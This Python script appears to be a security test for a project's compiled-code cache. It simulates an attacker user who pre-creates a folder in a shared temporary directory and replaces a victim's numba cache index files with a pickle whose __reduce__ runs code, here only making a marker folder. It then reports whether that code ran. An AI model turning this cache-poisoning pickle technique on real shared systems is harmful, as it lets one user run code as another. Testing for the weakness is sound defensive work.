"""Three users of one machine: root, an attacker, and a victim whose cache of compiled code the attacker wants.

Root runs this file in a folder to which all may write, as the shared temporary one. The attacker makes a folder
there before the victim does. When the victim has chosen the place of its compiled functions, the attacker puts
others there. The file prints as JSON whether they ran.
"""

from __future__ import annotations

import json
import os
import pickle
import sys
import tempfile
import traceback
from collections.abc import Callable
from pathlib import Path

ATTACKER, VICTIM, CANNOT = 60001, 60002, 77
OUTER = Path(f"tv2sim-{VICTIM}")
MARK = Path("mark")


class Payload:
    """What runs in the process that loads it."""

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return os.mkdir, (str(MARK.absolute()),)


def start(user: int, work: Callable[[], None]) -> int:
    """Do the work in a process of this user, and return its number."""
    if process := os.fork():
        return process
    status = 1
    try:
        os.setgroups([])
        os.setresgid(user, user, user)
        os.setresuid(user, user, user)
        work()
        status = 0
    except BaseException:  # noqa: BLE001 (this process ends here)
        traceback.print_exc()
    os._exit(status)


def ended(process: int) -> int:
    return os.waitstatus_to_exitcode(os.waitpid(process, 0)[1])


def twice(x: int) -> int:
    return 2 * x


def first() -> None:
    """Make the outer folder before the victim does."""
    os.umask(0)
    OUTER.mkdir()


def swap(planted: list[Path]) -> None:
    """Put the payload where the victim's compiled functions were."""
    os.umask(0)
    for inner in {OUTER / path.relative_to(OUTER).parts[0] for path in planted}:
        inner.rename(inner.with_name(f"{inner.name}.old"))
    for path in planted:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(pickle.dumps(Payload()))


def main() -> None:
    import numba

    from tv2sim.base import compiling

    tempfile.tempdir = str(Path.cwd())
    numba.njit(twice)(1)  # which imports what the other users may not be able to read
    compiling._stamp()

    def program() -> None:
        assert compiling.compiled(twice)(21) == 42

    def slow_program() -> None:
        function = compiling.compiled(twice)
        os.write(ready[1], b".")
        os.read(go[0], 1)
        function(21)

    assert ended(start(ATTACKER, first)) == 0
    assert ended(start(VICTIM, program)) == 0
    indices = [*OUTER.rglob("*.nbi")]
    ready, go = os.pipe(), os.pipe()
    victim = start(VICTIM, slow_program)
    os.close(ready[1])  # so that nobody waits for a victim that has failed
    assert os.read(ready[0], 1)
    assert ended(start(ATTACKER, lambda: swap(indices))) == 0
    os.write(go[1], b".")
    ended(victim)
    theirs = [str(path) for path in Path().rglob("*") if path.lstat().st_uid == VICTIM]
    result = {"code of the attacker ran": MARK.exists(), "kept by the victim": theirs}
    sys.stdout.write(json.dumps(result))


if __name__ == "__main__":
    try:
        os.setresuid(ATTACKER, ATTACKER, 0)
        os.setresuid(0, 0, 0)
    except PermissionError:
        sys.exit(CANNOT)
    main()
